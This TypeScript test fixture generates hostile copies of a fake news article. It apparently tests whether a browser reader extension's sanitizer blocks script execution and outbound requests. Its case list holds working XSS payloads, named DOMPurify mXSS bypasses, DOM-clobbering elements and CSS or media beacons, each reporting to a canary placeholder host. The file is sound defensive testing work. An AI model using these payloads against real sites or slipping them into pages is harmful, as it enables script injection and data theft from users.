/**
 * The hostile fixture pages, made from this list when a test asks (hostile-lib.ts casePage), so no
 * generated HTML is committed. `node --import tsx test/hostile/make-pages.ts DIR` writes them to DIR
 * (DIR/<case>/index.html) for a look in a browser.
 *
 * Every page is the same real-looking news article (so Readability extracts it) with one family of payloads
 * inside the article body (and, where it belongs, in <head>). A payload that runs sets `window.__pwned` and
 * requests `{{CANARY}}?case=<case>`; the servers replace {{CANARY}} with their canary endpoint. The page's
 * own image is /img/photo.png: the only request a reader may make.
 */
import fs from 'node:fs';
import path from 'node:path';

const C = '{{CANARY}}';
/** The JavaScript a payload runs: the canary global and a canary request. Single quotes only (it sits in attributes). */
const js = (id: string): string => `window.__pwned='${id}';fetch('${C}?case=${id}-js')`;

/**
 * Every global name content.js, derive.js and pager.js read (test/webext/page-globals.test.ts finds them in the built
 * scripts and checks this list holds each): in Chromium an element with that id or name is a property of
 * the window the content script sees too, unless the window has it as its own or its prototype's.
 */
export const SCRIPT_GLOBALS = [
  'Array',
  'Boolean',
  'DOMParser',
  'Error',
  'JSON',
  'Map',
  'Math',
  'Number',
  'Object',
  'Promise',
  'RangeError',
  'RegExp',
  'Set',
  'String',
  'Symbol',
  'URL',
  'URLSearchParams',
  'Uint8Array',
  'WeakMap',
  'XMLHttpRequest',
  'console',
  'decodeURIComponent',
  'document',
  'dump',
  'location',
  'parseInt',
  'performance',
  'window',
];

/** One hostile page: its payloads in the article body (and optionally <head>), and what they try. */
interface Case {
  id: string;
  what: string;
  head?: string;
  body: string;
}

export const CASES: Case[] = [
  {
    id: 'script',
    what: '<script> inline and external, inside the article',
    head: `<script>window.__pageScript = 1;</script>`,
    body: `<script>${js('script')}</script><script src="${C}?case=script-src"></script><p>Officials said the figures would be published weekly.<script>${js('script-inline')}</script></p>`,
  },
  {
    id: 'handlers',
    what: 'inline event handlers: onerror, onload, ontoggle, onstart, onbegin, onanimationstart',
    body: `<img src="missing.png" onerror="${js('onerror')}" alt="broken">
<img src="/img/photo.png" onload="${js('onload')}" alt="harbour">
<details open ontoggle="${js('ontoggle')}"><summary>Timeline</summary>Work began in March.</details>
<marquee onstart="${js('onstart')}">Breaking</marquee>
<video><source onerror="${js('source-onerror')}"></video>
<p onmouseover="${js('onmouseover')}" onanimationstart="${js('onanimationstart')}">Residents gathered on the quay to watch.</p>`,
  },
  {
    id: 'autofocus',
    what: 'onfocus with autofocus (input, contenteditable div, tabindex)',
    body: `<input autofocus onfocus="${js('input-autofocus')}" value="search">
<div contenteditable autofocus tabindex="0" onfocus="${js('div-autofocus')}" onfocusin="${js('focusin')}">Volunteers signed up online.</div>
<a href="/more" autofocus onfocus="${js('a-autofocus')}">more</a>`,
  },
  {
    id: 'javascript-urls',
    what: 'javascript: URLs in links, images, area and with case/whitespace/entity tricks',
    body: `<p>Read the <a href="javascript:${js('a-href')}">full report</a>, the <a href=" JaVaScRiPt:${js('a-mixed')}">summary</a>,
the <a href="java&#x09;script:${js('a-tab')}">timeline</a> and the <a href="&#106;avascript:${js('a-entity')}">map</a>.</p>
<img src="javascript:${js('img-src')}" alt="x"><map name="m"><area href="javascript:${js('area')}" shape="rect" coords="0,0,9,9"></map>
<img src="data:," data-src="javascript:${js('lazy-src')}" alt="lazy">`,
  },
  {
    id: 'data-urls',
    what: 'data: URLs: text/html links and frames, SVG documents, lazy data: sources',
    body: `<p>See the <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">chart</a> and the
<a href="data:text/html,<script>${js('data-a')}</script>">table</a>.</p>
<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'%3E%3C/svg%3E" alt="svg in img">
<iframe src="data:text/html,<script>parent.__pwned='data-iframe'</script>"></iframe>`,
  },
  {
    id: 'svg',
    what: 'SVG: script, onload, animate onbegin, foreignObject, xlink:href javascript:, image beacon, use',
    body: `<svg onload="${js('svg-onload')}" width="10" height="10"><script>${js('svg-script')}</script>
<image href="${C}?case=svg-image" width="1" height="1"/><animate onbegin="${js('svg-animate')}" attributeName="x" dur="1s"/>
<foreignObject><img src="x" onerror="${js('svg-foreign')}"></foreignObject>
<a xlink:href="javascript:${js('svg-a')}"><text x="0" y="9">tap</text></a><use href="${C}?case=svg-use#x"/>
<set attributeName="onmouseover" to="${js('svg-set')}"/></svg>`,
  },
  {
    id: 'mathml',
    what: 'MathML: maction/mi links, mtext holding HTML, annotation-xml',
    body: `<math><maction actiontype="statusline" xlink:href="javascript:${js('maction')}">x</maction>
<mi href="javascript:${js('mi-href')}">y</mi><mtext><img src="x" onerror="${js('mtext-img')}"></mtext>
<annotation-xml encoding="text/html"><img src="x" onerror="${js('annotation')}"></annotation-xml></math>`,
  },
  {
    id: 'iframe-srcdoc',
    what: '<iframe srcdoc> with a script and a beacon; <iframe src> to the canary; <frame>',
    body: `<iframe srcdoc="<script>parent.__pwned='iframe-srcdoc';fetch('${C}?case=iframe-srcdoc-js')</script><img src='${C}?case=iframe-srcdoc-img'>"></iframe>
<iframe src="${C}?case=iframe-src"></iframe><frameset><frame src="${C}?case=frame"></frameset>`,
  },
  {
    id: 'object-embed',
    what: '<object data>, <embed src>, <applet>, <param>',
    body: `<object data="${C}?case=object" type="text/html"><param name="src" value="${C}?case=param"></object>
<embed src="${C}?case=embed" type="text/html"><applet code="X" codebase="${C}?case=applet"></applet>`,
  },
  {
    id: 'meta-refresh',
    what: '<meta http-equiv=refresh> in head and in the article body',
    head: `<meta http-equiv="refresh" content="600;url=${C}?case=meta-refresh-head">`,
    body: `<meta http-equiv="refresh" content="0;url=${C}?case=meta-refresh"><meta http-equiv="set-cookie" content="pwned=1">`,
  },
  {
    id: 'base-href',
    what: '<base href> hijack in head and body (relative links must not point at the canary)',
    head: `<base href="${C}/base/">`,
    body: `<base href="javascript:${js('base-js')}//"><p>Earlier coverage: <a href="earlier.html">the first storm</a>.</p>`,
  },
  {
    id: 'form-action',
    what: '<form action>, <button formaction>, <input formaction>, <isindex>',
    body: `<form action="${C}?case=form-action" method="post"><input name="q" value="x"><button formaction="${C}?case=formaction">Send</button>
<input type="image" src="${C}?case=input-image" formaction="${C}?case=input-formaction"></form><isindex action="${C}?case=isindex">`,
  },
  {
    id: 'css-beacons',
    what: 'CSS url() beacons and @import: <style>, style attributes, <link rel=stylesheet>, background attribute',
    head: `<style>@import url("${C}?case=head-import");</style>`,
    body: `<style>@import url("${C}?case=css-import"); article p { background: url("${C}?case=css-url"); }</style>
<link rel="stylesheet" href="${C}?case=link-css"><link rel="prefetch" href="${C}?case=prefetch">
<p style="background-image: url('${C}?case=style-attr')">The tide tables were printed in the church hall.</p>
<table background="${C}?case=table-background"><tr><td background="${C}?case=td-background">High tide</td><td>06:14</td></tr></table>
<div style="list-style-image:url(${C}?case=list-style)"><ul><li style="content:url(${C}?case=content-url)">Low tide 12:30</li></ul></div>`,
  },
  {
    id: 'dom-clobbering',
    what: 'id/name = document, location, removeChild, getElementById, attributes, __proto__',
    body: `<img name="document" src="/img/photo.png" alt=""><a id="location" href="/x">x</a><form id="removeChild"><input name="attributes"></form>
<img name="getElementById" alt=""><a id="defaultView" name="querySelector" href="/y">y</a><div id="__proto__">z</div>
<p id="body" name="cookie">The harbour master kept a log of every storm.</p><a id="CONFIG" name="CONFIG" href="javascript:${js('clobber')}">c</a>`,
  },
  // Chromium shows a page's named elements to the isolated world: one named after a string-keyed API global
  // stood in for it, and every click ended in "the page changed or was closed" (issue 16, item 9).
  {
    id: 'clobber-api',
    what: "elements named after the extension's page-script globals: div id, img name, iframe name",
    body: `<div id="__jingyueContent">x</div><img name="__jingyueDerive" alt=""><iframe name="__jingyueApi" src="about:blank"></iframe>
<p id="jingyue.content">The quay's lamps were rewired in April.</p>`,
  },
  {
    id: 'clobber-api-form',
    what: "a form named after the content script's global, with an input named after its bookkeeping",
    body: `<form id="__jingyueContent"><input name="stats"><input name="clean"><input name="ping"></form>`,
  },
  {
    id: 'clobber-globals',
    what: 'an element named after every global name the page scripts read (SCRIPT_GLOBALS)',
    body: SCRIPT_GLOBALS.map(g => `<i id="${g}"></i><img name="${g}" alt="">`).join(''),
  },
  {
    id: 'mxss-svg-style',
    what: 'mXSS: <svg></p><style><a id="</style><img src=1 onerror=...>">',
    body: `<svg></p><style><a id="</style><img src=1 onerror=${js('mxss-svg-style').replace(/'/g, '&#39;')}>"></style></svg>`,
  },
  {
    id: 'mxss-math-mglyph',
    what: 'mXSS: <math><mtext><table><mglyph><style><img src=x onerror=...> (DOMPurify 2.0.0 bypass)',
    body: `<math><mtext><table><mglyph><style><img src=x onerror="${js('mxss-mglyph')}"></style></mglyph></table></mtext></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${js('mxss-mglyph2').replace(/'/g, '&quot;')}'>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  },
  {
    id: 'mxss-raw-text',
    what: 'mXSS via raw-text/RCDATA elements: noscript, title, textarea, xmp, noembed, noframes, iframe, style-in-attribute',
    body: `<noscript><p title="</noscript><img src=x onerror=${js('noscript').replace(/'/g, '&#39;')}>"></p></noscript>
<title><img src=x onerror="${js('title')}"></title><textarea><img src=x onerror="${js('textarea')}"></textarea>
<xmp><img src=x onerror="${js('xmp')}"></xmp><noembed><img src=x onerror="${js('noembed')}"></noembed>
<noframes><img src=x onerror="${js('noframes')}"></noframes><p>The <b title="</xmp><img src=x onerror=alert(1)>">lighthouse</b> still works.</p>`,
  },
  {
    id: 'mxss-namespace',
    what: 'mXSS by namespace confusion: form/math/mglyph (DOMPurify 2.0.17 bypass), svg p style, math mi svg textarea',
    body: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js('ns-form')}"></style></mglyph></form></mtext></math></form>
<svg><p><style><img src=x onerror="${js('ns-svg-p')}"></style></p></svg>
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='${js('ns-textarea').replace(/'/g, '&quot;')}' src=1>"></path></textarea></mtext></svg></mglyph></mi></math>
<svg><style><img src=x onerror="${js('svg-style')}"></style></svg><svg><desc><style><img src=x onerror="${js('svg-desc')}"></style></desc></svg>`,
  },
  {
    id: 'proto-pollution',
    what: 'prototype-pollution strings in attribute names and values',
    body: `<p data-x="__proto__" title="__proto__[polluted]=yes" class="constructor[prototype][polluted]">The __proto__ of the story: a town that rebuilt itself.</p>
<a href="/search?__proto__[polluted]=1&amp;constructor[prototype][polluted]=1">search</a><div id="__proto__" name="constructor" lang="__proto__">w</div>
<img alt='{"__proto__":{"polluted":1}}' src="/img/photo.png" data-__proto__="1" __proto__="1" constructor="1">
<span hasOwnProperty="1" toString="x" valueOf="y">prototype</span>`,
  },
  {
    id: 'media',
    what: '<video>/<audio> with autoplay sources and poster pointing at the canary',
    body: `<video src="${C}?case=video" autoplay muted poster="${C}?case=poster"></video><audio src="${C}?case=audio" autoplay></audio>
<video><source src="${C}?case=source"><track src="${C}?case=track" default></video>`,
  },
];

/** The article every page shares; {{PAYLOAD}} goes after the second paragraph. */
/** A case's whole page, with {{CANARY}} left for the server to fill. */
export function pageHtml(c: Case): string {
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Harbour town rebuilds its sea wall before summer</title>
${c.head ?? ''}
</head>
<body>
<header><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/coast">Coast</a></nav></header>
<main>
<article>
<h1>Harbour town rebuilds its sea wall before summer</h1>
<p class="byline">By Mara Quill</p>
<figure><img src="/img/photo.png" width="64" height="40" alt="The quay at dawn"><figcaption>The quay at dawn, after the repairs.</figcaption></figure>
<p>The harbour town woke slowly on Tuesday, its fishing boats returning with the tide while the bakery on the quay pulled its first trays of bread from the oven, as it has done every morning for three generations.</p>
<p>Last winter a storm tore a forty-metre hole in the sea wall, and for weeks it was unclear whether the shops along the quay could reopen before the summer visitors arrived. Engineers warned that another high tide could flood the square.</p>
<!-- payload: ${c.id} (${c.what.replace(/--/g, '')}) -->
${c.body}
<p>Volunteers worked through the spring, hauling stone and repainting shutters, and by May every shop on the quay had its doors open again. The council paid for the concrete; the town paid in weekends.</p>
<p>The baker says she never considered leaving. The town has given her family everything, she said, and the least she can do is keep the ovens warm for the people who stayed.</p>
<p>On Tuesday evening the lighthouse came on at dusk, as it has every night for a century, and the last customers walked home along the new wall with bread under their arms.</p>
</article>
</main>
<footer><p>About · Contact · Privacy</p></footer>
</body>
</html>
`;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const root = process.argv[2];
  if (!root) throw new Error('usage: node --import tsx test/hostile/make-pages.ts DIR');
  for (const c of CASES) {
    fs.mkdirSync(path.join(root, c.id), { recursive: true });
    fs.writeFileSync(path.join(root, c.id, 'index.html'), pageHtml(c));
  }
  console.log(`wrote ${CASES.length} pages under ${root}`);
}
